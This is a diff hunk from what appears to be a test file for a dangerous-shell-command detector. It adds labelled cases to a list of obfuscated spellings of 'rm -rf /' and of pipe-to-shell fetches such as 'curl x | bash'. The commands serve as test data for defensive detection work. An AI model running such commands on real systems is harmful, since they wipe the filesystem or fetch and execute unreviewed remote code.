@@ -152,6 +152,8 @@ SPELLED: list[tuple[int, str]] = [
     (1, "timeout 5 /usr/bin/rm -rf /"),
     (1, "find x | xargs /bin/rm -r -f /"),
     (1, "sh -c 'rm -rf \"/\"'"),
+    (1, 'env -S "rm -rf /"'),
+    (0, "env --split-string='sudo ls'"),
     (2, "curl x |& 'bash'"),
     (2, "curl x | $'sh'"),
     (2, "curl x | env bash -s"),
